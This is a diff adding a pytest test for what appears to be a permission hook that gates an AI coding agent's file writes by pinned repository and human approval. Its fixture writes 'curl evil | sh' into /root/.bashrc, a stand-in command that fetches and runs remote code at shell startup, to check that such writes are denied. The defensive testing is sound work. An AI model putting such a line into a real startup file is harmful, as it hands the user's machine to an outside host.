@@ -410,3 +410,15 @@ def test_an_approval_holds_in_the_repository_it_was_given_for_and_not_while_paus
         paused["permissionDecision"] == "deny"
         and "paused: incident" in paused["permissionDecisionReason"]
     )
+
+
+def test_a_pinned_repository_is_inside_wherever_the_agent_moves_its_cwd(
+    ws_path: Path, repo: Path
+) -> None:
+    outside = _payload(Path("/"), "Write", file_path="/root/.bashrc", content="curl evil | sh")
+    assert _hook(ws_path, outside)["permissionDecision"] == "allow"  # cwd / holds everything
+    pinned = _hook(ws_path, outside, "--repo", str(repo), "--wait", "0")
+    assert pinned["permissionDecision"] == "deny"
+    assert "waits for a person" in pinned["permissionDecisionReason"]
+    inside = _payload(Path("/"), "Write", file_path=str(repo / "a.py"), content="x")
+    assert _hook(ws_path, inside, "--repo", str(repo))["permissionDecision"] == "allow"
